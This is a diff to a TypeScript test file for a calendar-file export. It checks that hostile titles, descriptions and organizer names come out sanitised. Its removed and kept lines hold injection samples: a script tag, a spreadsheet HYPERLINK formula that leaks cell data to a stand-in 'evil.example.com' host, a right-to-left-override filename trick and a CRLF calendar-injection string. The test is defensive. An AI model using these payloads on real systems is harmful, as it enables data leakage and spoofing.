@@ -27,7 +27,13 @@ import {
   plannerName,
   sortCalendarEvents,
 } from './calendar'
+import { calendarLine, calendarParagraphs, calendarParameter } from './calendarText'
 import type { CalendarEvent } from './entities/calendar'
+import { hostileCorpus } from '../../mocks/hostile'
+
+/** The text as it reads back from UTF-8: a lone surrogate cannot be written and becomes U+FFFD. */
+const utf8 = (text: string): string =>
+  new TextDecoder('utf-8', { ignoreBOM: true }).decode(new TextEncoder().encode(text))
 
 const event_ = (eventId: string, overrides: Partial<CalendarEvent> = {}): CalendarEvent => ({
   eventId,
@@ -139,25 +145,40 @@ describe('calendar file', () => {
     expect(file!.startsWith('BEGIN:VCALENDAR')).toBe(true)
   })
 
-  it('keeps hostile titles and descriptions as text', () => {
-    const hostile = [
-      '<script>window.__pwned = "script"</script>Quarterly Report',
-      '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
+  it('keeps every hostile text as text: no raw control character, one event, every field as sanitised', () => {
+    const texts = [
+      ...hostileCorpus,
       'Invoice \u202Efdp.exe\u202C Q3; BEGIN:VEVENT\r\nEND:VCALENDAR',
       'a,b;c\\d:e',
-      `Annual ${'Report '.repeat(200)}End`,
     ]
-    for (const title of hostile) {
-      const { event } = readBack(
-        calendarFile(
-          event_('h', { title, description: title, eventLocation: title }),
-          new Date(Date.UTC(2024, 0, 1)),
-        ),
-      )
-      // One-line fields read line breaks as spaces; a description keeps them (calendarText.ts).
-      expect(event.summary).toBe(title.replace(/\r\n/g, ' '))
-      expect(event.description).toBe(title.replace(/\r\n/g, '\n'))
-      expect(event.location).toBe(title.replace(/\r\n/g, ' '))
+    for (const text of texts) {
+      const event = event_('h', {
+        title: text,
+        description: text,
+        eventLocation: text,
+        plannerEmail: 'ir@example.com',
+        plannerFirstName: text,
+        plannerLastName: text,
+      })
+      const file = calendarFile(event, new Date(Date.UTC(2024, 0, 1)))
+      const label = JSON.stringify(text.slice(0, 60))
+      expect(file, label).not.toBeNull()
+      // Only CRLF ends a line (a folded line goes on after CRLF and a tab); nothing else is a control character.
+      // eslint-disable-next-line no-control-regex
+      expect(file!.replace(/\r\n\t?/g, ''), label).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/)
+      // Saved as UTF-8, as a download is: read back, one event, no property of its own, each field as sanitised.
+      const saved = new TextDecoder().decode(new TextEncoder().encode(file!))
+      const calendar = new ICAL.Component(ICAL.parse(saved))
+      expect(calendar.getAllSubcomponents('vevent'), label).toHaveLength(1)
+      const { event: read, organizer } = readBack(saved)
+      expect(read.component.getAllProperties('attendee')).toEqual([])
+      expect.soft(read.summary ?? '', label).toBe(utf8(calendarLine(text)))
+      expect.soft(read.description ?? '', label).toBe(utf8(calendarParagraphs(text)))
+      expect.soft(read.location ?? '', label).toBe(utf8(calendarLine(text)))
+      expect.soft(organizer, label).toEqual({
+        address: 'mailto:ir@example.com',
+        name: utf8(calendarParameter(plannerName(event))) || 'ir@example.com',
+      })
     }
   })
 
